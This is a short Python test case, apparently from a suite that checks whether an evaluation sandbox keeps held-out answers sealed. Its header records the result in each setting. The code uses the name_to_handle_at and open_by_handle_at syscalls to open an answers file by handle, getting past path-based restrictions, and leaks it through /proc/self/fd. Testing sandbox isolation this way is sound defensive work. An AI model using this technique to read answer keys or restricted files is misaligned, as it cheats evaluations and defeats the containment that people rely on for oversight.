# attack: opens the held-out data by its inode, past every path
# group: held_out
# scoring: sealed
# sandboxed: stopped
# restricted: stopped
# unprotected: works (secret)
from prepare import *

import ctypes
import struct


def by_handle(mount):  # name_to_handle_at, open_by_handle_at
    directory = os.open(mount, os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount_id = ctypes.create_string_buffer(4)
    path = (CHECKOUT + "/answers/answers.txt").encode()
    syscall(303, -100, path, handle, mount_id, 0)
    leak(f"/proc/self/fd/{syscall(304, directory, handle, os.O_RDONLY)}")


finish()
attempt(lambda: by_handle("."), lambda: by_handle("/"))
